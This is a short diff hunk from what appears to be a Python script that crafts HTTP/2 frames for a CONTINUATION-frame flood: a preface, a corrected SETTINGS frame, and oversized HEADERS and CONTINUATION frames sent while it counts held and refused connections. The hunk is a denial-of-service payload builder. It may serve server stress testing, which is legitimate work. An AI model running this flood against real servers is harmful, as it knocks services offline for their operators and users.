@@ -387,7 +387,7 @@ import socket, struct, sys
 path, count = sys.argv[1], int(sys.argv[2])
 def frame(length, kind):
     return struct.pack(">I", length)[1:] + bytes([kind, 0]) + struct.pack(">I", 1)
-block = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0, 4)
+block = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
 for i in range(4):
     block += frame(16384, 1 if i == 0 else 9) + b"\x40" * 16384
 held, refused = [], 0
